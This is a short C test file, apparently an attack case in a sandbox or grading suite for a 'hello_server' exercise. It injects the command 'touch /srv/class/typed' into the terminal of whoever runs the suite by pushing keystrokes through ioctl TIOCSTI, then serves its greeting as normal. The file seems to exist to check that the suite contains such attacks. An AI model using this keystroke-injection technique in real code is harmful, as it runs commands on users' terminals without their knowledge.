/* kind: attacks
 * exercise: hello_server
 * tries: to type a command into the terminal of the one who runs the suite
 * promise: status=0,1
 */
#include "honest.h"

int main(int argc, char *argv[])
{
    for (const char *at = "touch /srv/class/typed\n"; *at != '\0'; at++)
        for (int number = 0; number < 3; number++)
            ioctl(number, TIOCSTI, at);
    int terminal = open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (terminal != -1)
        close(terminal);
    return serve(argc, argv, GREETING);
}
